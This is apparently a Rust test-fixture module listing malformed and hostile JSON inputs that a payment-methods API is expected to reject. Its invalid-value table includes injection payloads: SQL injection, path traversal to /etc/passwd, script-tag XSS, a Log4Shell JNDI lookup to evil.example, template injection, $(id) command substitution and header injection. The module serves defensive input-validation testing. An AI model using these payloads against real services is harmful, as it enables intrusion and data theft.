//! Bad bodies, as data.

use serde_json::Value;

/// What is wrong with a property, or with a whole body.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Fault {
    /// The property is missing or `null`.
    Required,
    /// The property is of another JSON type.
    WrongType,
    /// The property is a text, and no value of its kind.
    Invalid,
    /// The body is not JSON.
    Malformed,
}

use Fault::{Invalid, Malformed, Required, WrongType};

/// JSON texts that no property may have as its value, whatever its kind, and what is wrong with each.
pub(crate) fn values(longest: usize) -> Vec<(String, Fault)> {
    let mut cases: Vec<(String, Fault)> = FIXED
        .iter()
        .map(|(value, fault)| ((*value).to_owned(), *fault))
        .collect();
    cases.extend([
        (format!("\"{}\"", "a".repeat(longest + 1)), Invalid),
        (format!("\"{}\"", "a".repeat(10_000)), Invalid),
        (format!("\"{}\"", "\u{1f4a5}".repeat(1_000)), Invalid),
        (format!("\"{}\"", " ".repeat(longest)), Invalid),
        (format!("{}{}", "[".repeat(100), "]".repeat(100)), WrongType),
        (
            format!("{}1{}", "{\"a\":".repeat(100), "}".repeat(100)),
            WrongType,
        ),
        (format!("{}{}", "[".repeat(8_000), "]".repeat(8_000)), Malformed),
        ("[".repeat(10_000), Malformed),
        ("{\"a\":".repeat(3_000), Malformed),
        (format!("1{}", "0".repeat(400)), Malformed),
        // A control character as it is, where JSON wants an escape.
        ("\"a\u{0}\"".to_owned(), Malformed),
        ("\"a\nb\"".to_owned(), Malformed),
        ("\"a\u{1b}[0m\"".to_owned(), Malformed),
    ]);
    cases
}

const FIXED: [(&str, Fault); 70] = [
    ("null", Required),
    ("0", WrongType),
    ("-1.5e3", WrongType),
    ("123456789012345678901234567890", WrongType),
    ("true", WrongType),
    ("false", WrongType),
    ("[]", WrongType),
    (r#"["a"]"#, WrongType),
    ("[null]", WrongType),
    ("{}", WrongType),
    (r#"{"id":"a","user":"a"}"#, WrongType),
    (r#"{"$ne":null}"#, WrongType),
    (r#"" ""#, Invalid),
    (r#"" a""#, Invalid),
    (r#""a ""#, Invalid),
    (r#""a b""#, Invalid),
    (r#""\t""#, Invalid),
    (r#""a\n""#, Invalid),
    (r#""a\r\nSet-Cookie: b=c""#, Invalid),
    (r#""\u0000""#, Invalid),
    (r#""a\u0000""#, Invalid),
    (r#""a\u0000b""#, Invalid),
    (r#""\u001b[31m""#, Invalid),
    (r#""\u007f""#, Invalid),
    (r#""a\u0085b""#, Invalid),
    (r#""a\u2028b""#, Invalid),
    (r#""a\u202eb""#, Invalid),
    (r#""a\ufeff""#, Invalid),
    (r#""\ufffd""#, Invalid),
    (r#""\ud83d\udca5""#, Invalid),
    ("\"\u{1f4a5}\"", Invalid),
    ("\"\u{e4}\"", Invalid),
    ("\"e\u{301}\"", Invalid),
    ("\"\u{430}lice\"", Invalid),
    ("\"\u{ff41}\"", Invalid),
    ("\"\u{661}\"", Invalid),
    (r#""a'b""#, Invalid),
    (r#""' OR '1'='1""#, Invalid),
    (r#""'; DROP TABLE payment_methods; --""#, Invalid),
    (r#""a%00b""#, Invalid),
    (r#""a%2Fb""#, Invalid),
    (r#""..""#, Invalid),
    (r#""../../etc/passwd""#, Invalid),
    (r#""..\\..\\windows""#, Invalid),
    (r#""a/b""#, Invalid),
    (r#""a?b=c""#, Invalid),
    ("\"a#b\"", Invalid),
    (r#""a&b""#, Invalid),
    (r#""a,b""#, Invalid),
    (r#""a.b""#, Invalid),
    (r#""<script>alert(1)</script>""#, Invalid),
    (r#""${jndi:ldap://evil.example}""#, Invalid),
    (r#""{{7*7}}""#, Invalid),
    (r#""$(id)""#, Invalid),
    (r#""\"""#, Invalid),
    (r#""\ud800""#, Malformed),
    (r#""a\ud800b""#, Malformed),
    (r#""\udc00""#, Malformed),
    (r#""\udca5\ud83d""#, Malformed),
    (r#""\u12""#, Malformed),
    (r#""\x41""#, Malformed),
    (r#""a"#, Malformed),
    ("'a'", Malformed),
    ("undefined", Malformed),
    ("NaN", Malformed),
    ("-Infinity", Malformed),
    ("01", Malformed),
    ("1e999", Malformed),
    ("", Malformed),
    (r#""a" "b""#, Malformed),
];

/// Bodies that are wrong as a whole, whatever the operation.
pub(crate) fn bodies() -> Vec<(&'static str, Vec<u8>, WholeFault)> {
    use WholeFault::{NoObject, NotJson, TooLarge};
    let good = r#"{"id":"pm_1","user":"alice"}"#;
    let text = |body: &str| body.as_bytes().to_vec();
    let utf16: Vec<u8> = good.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let padded = |length: usize| format!("{good}{}", " ".repeat(length - good.len() - 1) + "x").into_bytes();
    vec![
        ("empty", text(""), NotJson),
        ("white space", text(" \r\n\t "), NotJson),
        ("NUL", text("\u{0}"), NotJson),
        ("null", text("null"), NoObject),
        ("a number", text("1"), NoObject),
        ("a boolean", text("true"), NoObject),
        ("a text", text(r#""{\"id\":\"pm_1\"}""#), NoObject),
        ("an empty array", text("[]"), NoObject),
        ("an array of it", text(&format!("[{good}]")), NoObject),
        ("half an object", text(r#"{"id":"pm_1","user":"#), NotJson),
        ("a brace", text("{"), NotJson),
        ("a closing brace", text("}"), NotJson),
        ("trailing garbage", text(&format!("{good}x")), NotJson),
        (
            "a trailing comma",
            text(r#"{"id":"pm_1","user":"alice",}"#),
            NotJson,
        ),
        ("a trailing NUL", text(&format!("{good}\u{0}")), NotJson),
        ("two objects", text(&format!("{good}{good}")), NotJson),
        ("lines of objects", text(&format!("{good}\n{good}\n")), NotJson),
        ("a comment", text(&format!("{good}// id")), NotJson),
        ("bare names", text("{id:\"pm_1\",user:\"alice\"}"), NotJson),
        ("single quotes", text("{'id':'pm_1','user':'alice'}"), NotJson),
        ("a byte order mark", text(&format!("\u{feff}{good}")), NotJson),
        ("UTF-16", utf16, NotJson),
        (
            "a bad byte in a text",
            b"{\"id\":\"pm_\xff\",\"user\":\"alice\"}".to_vec(),
            NotJson,
        ),
        (
            "an overlong NUL",
            b"{\"id\":\"pm_\xc0\x80\",\"user\":\"alice\"}".to_vec(),
            NotJson,
        ),
        (
            "a surrogate in bytes",
            b"{\"id\":\"\xed\xa0\x80\",\"user\":\"alice\"}".to_vec(),
            NotJson,
        ),
        ("a bad byte in a name", b"{\"\xff\":1}".to_vec(), NotJson),
        ("a bad byte alone", vec![0xff], NotJson),
        (
            "gzip",
            vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xab, 0xae, 5, 0],
            NotJson,
        ),
        ("a form", text("id=pm_1&user=alice"), NotJson),
        ("XML", text("<?xml version=\"1.0\"?><id>pm_1</id>"), NotJson),
        ("YAML", text("id: pm_1\nuser: alice\n"), NotJson),
        (
            "multipart",
            text("--x\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\npm_1\r\n--x--\r\n"),
            NotJson,
        ),
        ("10,000 arrays opened", text(&"[".repeat(10_000)), NotJson),
        (
            "8,000 arrays",
            text(&("[".repeat(8_000) + &"]".repeat(8_000))),
            NotJson,
        ),
        ("3,000 objects opened", text(&r#"{"a":"#.repeat(3_000)), NotJson),
        (
            "10,000 arrays",
            text(&("[".repeat(10_000) + &"]".repeat(10_000))),
            TooLarge,
        ),
        ("the longest that is read", padded(16 * 1024), NotJson),
        ("one byte more", padded(16 * 1024 + 1), TooLarge),
        ("100 KB", padded(100_000), TooLarge),
        ("1 MB", padded(1 << 20), TooLarge),
    ]
}

/// What is wrong with a whole body.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum WholeFault {
    /// It is JSON, and no object.
    NoObject,
    NotJson,
    TooLarge,
}

/// The body of a request with one property's value replaced by a JSON text, or taken out.
pub(crate) fn with_property(good: &Value, property: &str, value: Option<&str>) -> String {
    let members: Vec<String> = good
        .as_object()
        .expect("a good body is an object")
        .iter()
        .filter_map(|(name, good)| {
            let text = good.to_string();
            let value = if name == property { value? } else { text.as_str() };
            Some(format!("\"{name}\":{value}"))
        })
        .collect();
    format!("{{{}}}", members.join(","))
}
